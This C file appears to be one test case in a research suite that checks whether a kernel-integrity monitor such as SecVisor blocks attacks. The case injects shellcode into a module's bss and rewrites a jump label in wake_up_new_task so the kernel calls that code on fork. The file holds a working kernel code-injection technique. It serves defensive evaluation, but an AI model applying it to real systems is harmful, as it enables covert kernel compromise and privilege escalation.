// Row 12. A jump label in kernel text (a tracepoint's, in wake_up_new_task) made a call of code in a module's bss.
// Source: text_poke sites as data of the attacker's choosing; the patching interfaces trust their tables.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

// A jump label of five bytes, switched off, in the first KiB of a function.
static u64 label(u64 function)
{
	u64 table = symbol("__start___jump_table"), end = symbol("__stop___jump_table");
	struct {
		s32 code, target;
		u64 key;
	} entries[4];

	for (; table < end; table += sizeof(entries)) {
		kread(table, entries, sizeof(entries));
		for (unsigned i = 0; i < 4; i++) {
			u64 at = table + i * sizeof(*entries) + entries[i].code;
			u8 now[5];

			if (at - function >= 1024)
				continue;
			kread(at, now, sizeof(now));
			if (!memcmp(now, "\x0f\x1f\x44\x00\x00", 5))
				return at;
		}
	}
	failed("no jump label");
}

ATTACK("jump-label-kernel")
{
	// push rax; mov rax, slot; movl [rax], 1337h; pop rax; ret
	u8 code[] = { 0x50, 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xc7, 0x00, 0x37, 0x13, 0, 0, 0x58, 0xc3 };
	u64 bss = operate(VULNERABLE_BSS, 0, 0, 0), slot = bss + PAGE / 2, zero = 0;
	u64 at = label(symbol("wake_up_new_task"));
	s32 relative = bss - (at + 5);
	u8 site[5] = { 0xe8 };

	memcpy(code + 3, &slot, 8);
	memcpy(site + 1, &relative, 4);
	kwrite(bss, code, sizeof(code));
	kwrite(slot, &zero, 8);
	make_executable(bss);
	keep_bytes(at, 5);
	kwrite(at, site, 5);
	if (!fork())
		_exit(0);
	wait(NULL);
	if (kread64(slot) == MARK)
		succeeded("a jump label called code in data at fork");
	kread(at, site, 5);
	if (!memcmp(site, "\x0f\x1f\x44\x00\x00", 5))
		restored("the jump label is a NOP again");
	failed("nothing was called");
}
